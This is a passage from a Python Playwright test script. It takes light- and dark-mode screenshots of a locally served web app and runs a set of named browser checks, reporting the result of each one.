            page.page.wait_for_timeout(2500)
            page.page.screenshot(path=str(folder / f"serve-{width}-{scheme}.png"))
    page.page.set_viewport_size({"width": 820, "height": 700})
    for path in ("add", "access", "settings?widget=flight"):
        page.page.goto(f"{board.origin}/{path}")
        for scheme in ("light", "dark"):
            page.page.emulate_media(color_scheme=scheme)
            page.page.screenshot(path=str(folder / f"serve-{path.split('?')[0]}-{scheme}.png"))
    board.stop()


def main():
    arguments = sys.argv[1:]
    program = str(Path(arguments.pop(0)).resolve())
    images = None
    if arguments[:1] == ["--images"]:
        images = Path(arguments[1])
        arguments = arguments[2:]
    failed = 0
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=os.environ.get("CHROMIUM", "/usr/bin/chromium"), args=["--no-sandbox"])
        if images:
            take_images(program, browser, images)
        else:
            for function in CHECKS:
                if arguments and not any(word in function.__name__ for word in arguments):
                    continue
                try:
                    board = function(program, browser)
                    errors = [error for page in Board.pages for error in page.errors]
                    assert not errors or function in ENDS_SERVERS, errors
                    if board:
                        board.stop()
                    print("ok  ", function.__name__, flush=True)
                except Exception as error:  # each check reports its own failure
                    failed += 1
                    line = [frame.lineno for frame in traceback.extract_tb(error.__traceback__) if frame.filename == __file__][-1]
                    print(f"FAIL {function.__name__} (line {line}) - {error}", flush=True)
                while Board.pages:
                    Board.pages.pop().context.close()
                while Board.running:
                    Board.running.pop().kill()
        browser.close()
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
